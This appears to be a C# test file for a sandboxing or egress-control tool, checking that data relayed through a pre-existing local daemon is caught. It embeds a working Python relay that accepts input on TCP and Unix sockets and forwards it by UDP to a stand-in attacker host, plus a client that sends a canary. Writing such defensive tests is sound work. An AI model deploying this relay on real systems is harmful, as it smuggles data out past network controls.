using Sallyport.Lab.Processes;

namespace Sallyport.Kernel.Tests;

/// <summary>
/// HARDENING rule 6: a daemon that was there before the job, and that would carry something out on its word. Here it is a relay
/// that sends whatever it is told to the attacker.
/// </summary>
public sealed class HelperTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    private const int Port = 7070;
    private const string Path = "/run/lab/work/relay.sock";

    private const string Relay = $"""
        import os, selectors, socket
        out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        ways = selectors.DefaultSelector()
        if os.path.exists('{Path}'):
            os.unlink('{Path}')
        for family, address in ((socket.AF_INET, ('0.0.0.0', 7070)), (socket.AF_UNIX, '{Path}'), (socket.AF_UNIX, '\0lab-relay')):
            server = socket.socket(family)
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            server.bind(address)
            server.listen()
            ways.register(server, selectors.EVENT_READ)
        print('listening', flush=True)
        while True:
            for key, _ in ways.select():
                client, _ = key.fileobj.accept()
                out.sendto(client.recv(200), ('{Attacker}', 5300))
                client.sendall(b'sent')
                client.close()
        """;

    private const string Client = """
        import socket, sys
        family = socket.AF_INET if sys.argv[1] == 'tcp' else socket.AF_UNIX
        where = (sys.argv[2], 7070) if family == socket.AF_INET else sys.argv[2].replace('@', '\0')
        way = socket.socket(family)
        try:
            way.connect(where)
        except PermissionError:
            sys.exit('refused')
        way.sendall(sys.argv[3].encode())
        print(way.recv(10))
        """;

    [Theory]
    [EveryMode("127.0.0.1", LabAddresses.Client)]
    public async Task A_relay_on_an_address_of_the_machine(LabMode mode, string address)
    {
        using LabProcess relay = await RelayAsync();
        await ProveAsync(mode, new Attack
        {
            Command = Ask("tcp", address),
            Row = Row.Connection("tcp", Port, address),
            Reasons = ["helper"],
            Exe = null,
            Silent = (Attacker, 5300),
        });
    }

    [Theory]
    [EveryMode(Path, "@lab-relay")]
    public async Task A_relay_on_a_Unix_socket(LabMode mode, string path)
    {
        using LabProcess relay = await RelayAsync();
        await ProveAsync(mode, new Attack
        {
            Command = Ask("unix", path),
            Row = Row.Connection("unix", 0, path),
            Reasons = ["helper"],
            Exe = null,
            Silent = (Attacker, 5300),
        });
    }

    [Fact]
    public async Task What_the_policy_names_may_be_asked()
    {
        using LabProcess relay = await RelayAsync();
        LabRun run = await PassAsync(Script(
            $"/usr/bin/python3 -c \"$CLIENT\" tcp 127.0.0.1 {Canary}",
            $"/usr/bin/python3 -c \"$CLIENT\" unix {Path} {Canary}",
            $"/usr/bin/python3 -c \"$CLIENT\" unix @lab-relay {Canary}") with
        {
            Before = ["/usr/bin/env", $"CLIENT={Client}"],
            Allow = ["127.0.0.1:7070"],
            Policy = $"version: 1\nsockets: [{Path}, '@lab-relay']",
        });
        Assert.Equal(3, run.Traffic.PacketsTo(Attacker, 5300));
    }

    [Fact]
    public Task What_the_job_starts_itself_is_no_helper() => PassAsync(Script(
        "/usr/bin/python3 -c \"$RELAY\" > started & relay=$!",
        "until grep -q listening started; do sleep 0.05; done",
        "trap 'kill $relay' EXIT",
        $"for kind in 'tcp 127.0.0.1' 'unix {Path}' 'unix @lab-relay'; do /usr/bin/python3 -c \"$CLIENT\" $kind {Canary}; done") with
    {
        Before = ["/usr/bin/env", $"CLIENT={Client}", $"RELAY={Relay}"],
        Allow = [$"udp://{Attacker}:5300"],
    });

    private LabCommand Ask(string kind, string address) => Command("/usr/bin/python3", "-c", Client, kind, address, Canary);

    private async Task<LabProcess> RelayAsync()
    {
        LabProcess relay = Lab.Start("/usr/bin/python3", "-c", Relay);
        await relay.SaysAsync("listening", TimeSpan.FromSeconds(20));
        return relay;
    }
}
